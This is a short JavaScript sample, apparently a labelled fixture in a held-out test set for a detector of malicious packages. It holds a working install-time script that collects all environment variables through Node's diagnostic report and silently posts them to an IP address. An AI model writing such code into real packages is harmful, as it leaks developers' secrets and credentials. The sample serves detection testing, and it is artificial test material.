// expect: malicious
// when: install
// source: an install "diagnostics" script that takes the environment from Node's diagnostic report
// (`process.report.getReport().environmentVariables`) instead of process.env and posts it to an IP
// (twentieth held-out set, 2026)
const http = require('http');

const report = process.report.getReport();
const body = JSON.stringify({ node: report.header.nodejsVersion, env: report.environmentVariables });
const req = http.request({ host: '198.51.100.23', port: 8080, path: '/v1/ingest', method: 'POST' });
req.on('error', () => {});
req.end(body);
